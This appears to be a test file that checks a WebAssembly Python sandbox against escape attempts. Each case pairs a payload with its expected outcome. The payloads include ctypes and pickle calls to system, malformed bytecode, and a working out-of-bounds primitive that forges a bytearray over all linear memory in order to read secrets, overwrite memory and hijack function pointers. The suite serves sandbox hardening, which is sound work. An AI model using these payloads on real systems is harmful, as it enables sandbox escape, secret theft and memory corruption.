import { single } from './attack.js';

/** Reads `co_consts` beyond its end: a bytes object becomes a bytearray that spans all of linear memory. */
export const MEMORY = `import sys
def p32(n): return (n & 0xffffffff).to_bytes(4, 'little')
def window(start=0, size=0x7fffffff):
    fake = p32(1 << 24) + p32(id(bytearray)) + p32(size) + p32(size) + p32(start) + p32(start) + p32(0)
    fake = fake + bytes(-len(fake) % 8)
    at = id(fake) + bytes.__basicsize__ - 1
    pointer = p32(at) * 2
    keep.append((fake, pointer))
    target = id(pointer) + bytes.__basicsize__ - 1
    def f(): return None
    consts = (None,)
    base = id(consts) + tuple.__basicsize__
    index = ((target - base) % 2**32) // 4
    op = __import__('opcode').opmap
    code = b''.join(bytes([op['EXTENDED_ARG'], (index >> s) & 255]) for s in (24, 16, 8)) + bytes([op['LOAD_CONST'], index & 255, op['RETURN_VALUE'], 0])
    f.__code__ = f.__code__.replace(co_code=bytes([op['RESUME'], 0]) + code, co_consts=consts, co_stacksize=8)
    keep.append(f)
    return f()
keep = []
`;

/** What a broken interpreter does next depends on what lies beside the broken thing. Only its effects are judged. */
const BROKEN =
  'ok|ENGINE_FAULT|SystemError|MemoryError|AttributeError|TypeError|ValueError|OverflowError|EXECUTION_TIMEOUT';

const op = (body: string) => `import opcode
op = opcode.opmap
def f(): return 1
f.__code__ = f.__code__.replace(${body})
f()`;

export const BYTECODE = single('ctypes, bytecode and memory', [
  ['import ctypes', 'ModuleNotFoundError', 'import ctypes\nctypes.CDLL(None).system(b"touch {{marker}}")'],
  ['import _ctypes', 'ModuleNotFoundError', 'import _ctypes\n_ctypes.dlopen(None, 0)'],
  [
    'ctypes without its bar',
    'ENGINE_FAULT',
    'import sys\nfor n in ("ctypes", "_ctypes"): del sys.modules[n]\nimport ctypes\nctypes.string_at(0, 10)',
  ],
  [
    'ctypes callback without its bar',
    'ENGINE_FAULT',
    'import sys\nfor n in ("ctypes", "_ctypes"): del sys.modules[n]\nimport ctypes\nctypes.CFUNCTYPE(ctypes.c_int)(lambda: 1)()',
  ],
  [
    'ctypes system without its bar',
    'ENGINE_FAULT',
    'import sys\nfor n in ("ctypes", "_ctypes"): del sys.modules[n]\nimport ctypes\nctypes.CDLL(None).system(b"touch {{marker}}")',
  ],
  [
    'stack underflow',
    BROKEN,
    op("co_code=bytes([op['RESUME'], 0] + [op['POP_TOP'], 0] * 400 + [op['RETURN_VALUE'], 0])"),
    { breaksItself: true },
  ],
  [
    'stack overflow',
    BROKEN,
    op(
      "co_code=bytes([op['RESUME'], 0] + [op['LOAD_CONST'], 0] * 200000 + [op['RETURN_VALUE'], 0]), co_stacksize=1",
    ),
    { breaksItself: true },
  ],
  [
    'constants out of range',
    BROKEN,
    op(
      "co_code=bytes([op['RESUME'], 0, op['EXTENDED_ARG'], 255, op['EXTENDED_ARG'], 255, op['LOAD_CONST'], 255, op['RETURN_VALUE'], 0])",
    ),
    { breaksItself: true },
  ],
  [
    'locals out of range',
    BROKEN,
    op(
      "co_code=bytes([op['RESUME'], 0, op['EXTENDED_ARG'], 9, op['LOAD_FAST'], 255, op['RETURN_VALUE'], 0])",
    ),
    { breaksItself: true },
  ],
  [
    'store out of range',
    BROKEN,
    op(
      "co_code=bytes([op['RESUME'], 0, op['LOAD_CONST'], 0, op['EXTENDED_ARG'], 90, op['STORE_FAST'], 255, op['LOAD_CONST'], 0, op['RETURN_VALUE'], 0])",
    ),
    { breaksItself: true },
  ],
  [
    'a jump beyond the code',
    BROKEN,
    op("co_code=bytes([op['RESUME'], 0, op['EXTENDED_ARG'], 99, op['JUMP_FORWARD'], 255])"),
    { breaksItself: true },
  ],
  ['no return', BROKEN, op("co_code=bytes([op['RESUME'], 0, op['NOP'], 0])"), { breaksItself: true }],
  [
    'an opcode that is none',
    BROKEN,
    op("co_code=bytes([op['RESUME'], 0, 253, 77, op['RETURN_VALUE'], 0])"),
    { breaksItself: true },
  ],
  [
    'marshal of noise',
    'OverflowError',
    'import marshal, random\nr = random.Random(7)\nfor _ in range(20000):\n    try:\n        marshal.loads(r.randbytes(r.randrange(60)))\n    except (ValueError, EOFError, TypeError, MemoryError, UnicodeError, SyntaxError):\n        pass',
  ],
  [
    'marshal of a damaged code object',
    BROKEN,
    'import marshal, random\nr = random.Random(11)\ngood = marshal.dumps(compile("def f(a, b=1): return [a, b, f]", "x", "exec"))\nfor _ in range(3000):\n    b = bytearray(good)\n    b[r.randrange(len(b))] = r.randrange(256)\n    try:\n        marshal.loads(bytes(b))\n    except Exception:\n        pass',
    { breaksItself: true },
  ],
  [
    'a corrupt .pyc',
    BROKEN,
    'import py_compile, sys, importlib\nopen("/tmp/evil.py", "w").write("x = [i for i in range(9)]")\np = py_compile.compile("/tmp/evil.py")\nb = bytearray(open(p, "rb").read())\nb[60:] = bytes(255 - c for c in b[60:])\nopen(p, "wb").write(b)\nsys.path.insert(0, "/tmp")\nimportlib.invalidate_caches()\nimport evil',
    { breaksItself: true },
  ],
  [
    'pickle that calls system',
    'ok',
    'import pickle\npickle.loads(b"cos\\nsystem\\n(S\'touch {{marker}}\'\\ntR.")',
  ],
  [
    'read all of linear memory',
    BROKEN,
    `${MEMORY}m = window()
n = 0
hits = []
try:
    while n < 0x10000000:
        part = bytes(m[n:n + 65536])
        for tag in (b'sibling-' + b'secret-', b'host-' + b'secret-'):
            i = part.find(tag)
            if i >= 0: hits.append(part[i:i + 60])
        n += 65536
except BaseException as e:
    pass
print(len(hits), hits)`,
    { breaksItself: true },
  ],
  [
    'write zeros over everything',
    BROKEN,
    `${MEMORY}m = window()\nz = bytes(65536)\nfor n in range(0, 0x4000000, 65536): m[n:n + 65536] = z`,
    { breaksItself: true },
  ],
  [
    'write noise over everything',
    BROKEN,
    `${MEMORY}m = window()\nz = bytes(range(256)) * 256\nfor n in range(0x4000000 - 65536, 0, -65536): m[n:n + 65536] = z`,
    { breaksItself: true },
  ],
  ['write beyond the heap', BROKEN, `${MEMORY}m = window()\nm[0x3fffff00]`, { breaksItself: true }],
  [
    'an object at a forged address',
    BROKEN,
    `${MEMORY}for a in (0, 1, 0xffffffff, 0x7fffffff):
    w = window(a, 16)
    try:
        w[0] = 1
    except BaseException:
        pass`,
    { breaksItself: true },
  ],
  [
    'a forged type object',
    BROKEN,
    `${MEMORY}m = window()
class T: pass
t = T()
m[id(t) + 4:id(t) + 8] = p32(0x1234560)
t.x`,
    { breaksItself: true },
  ],
  [
    'a function pointer of its own',
    BROKEN,
    `${MEMORY}m = window()
t = id(len)
ml = int.from_bytes(m[t + 8:t + 12], 'little')
for index in range(1, 4000, 37):
    m[ml + 4:ml + 8] = p32(index)
    try:
        len([])
    except Exception:
        pass`,
    { breaksItself: true, timeoutMs: 2000 },
  ],
  [
    'refcount below zero',
    BROKEN,
    `${MEMORY}m = window()
x = ['a']
m[id(x):id(x) + 4] = p32(1)
y = x
del x, y
z = [[] for _ in range(1000)]`,
    { breaksItself: true },
  ],
  [
    'the harness in memory',
    BROKEN,
    `${MEMORY}m = window()
h = sys.modules['_world_harness'].run_statements
a = id(h)
m[a + 4:a + 8] = p32(id(int))`,
    { breaksItself: true },
  ],
  [
    'None becomes another',
    BROKEN,
    `${MEMORY}m = window()\na = id(None)\nm[a + 4:a + 8] = p32(id(str))`,
    { breaksItself: true },
  ],
  [
    'type flags',
    BROKEN,
    `${MEMORY}m = window()\na = id(int)\nfor o in range(60, 120, 4): m[a + o:a + o + 4] = p32(0xffffffff)\nint(3) + 1`,
    { breaksItself: true },
  ],
]);
